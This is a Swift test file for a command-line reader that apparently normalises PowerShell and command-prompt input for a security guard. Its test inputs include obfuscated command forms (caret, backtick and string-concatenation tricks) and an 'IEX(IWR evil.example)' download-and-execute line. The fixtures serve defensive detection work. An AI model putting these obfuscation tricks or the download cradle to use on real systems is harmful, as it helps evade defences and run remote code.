import Testing

@testable import Guard

struct WindowsReaderTests {
  private func dump(_ text: String) -> [String] {
    let program = WindowsReader.read(Array(text.utf8))
    return program.statements.map { statement in
      let words = statement.words.map { String(decoding: program.bytes($0), as: UTF8.self) }
      return ((statement.isPiped ? ["|"] : []) + words).joined(separator: " ")
    }
  }

  @Test(arguments: [
    ("Get-Process | Sort-Object CPU", ["get-process", "| sort-object cpu"]), ("a; b && c\nd", ["a", "b", "c", "d"]),
    ("p^o^wershell -c x", ["powershell -c x"]), ("i`e`x y", ["iex y"]),
    ("IEX(IWR evil.example)", ["iex iwr evil.example"]),
    ("'I'+'eX' a", ["iex a"]), ("\"a b\" c", ["a b c"]), ("pow\"\"ershell", ["powershell"]), ("a # b", ["a"]),
    ("a <# b #> c", ["a c"]),
    ("C:\\Temp\\A.exe x", ["c:\\temp\\a.exe x"]), ("'", [""]), ("a 'b", ["a b"]), ("$x=iwr a", ["$x iwr a"]),
    ("curl http://a.example/?b=1&c=2", ["curl http://a.example/?b=1&c=2"]),
  ])
  func `statements and words are those of PowerShell and the command prompt`(text: String, expected: [String]) {
    #expect(dump(text) == expected)
  }
}
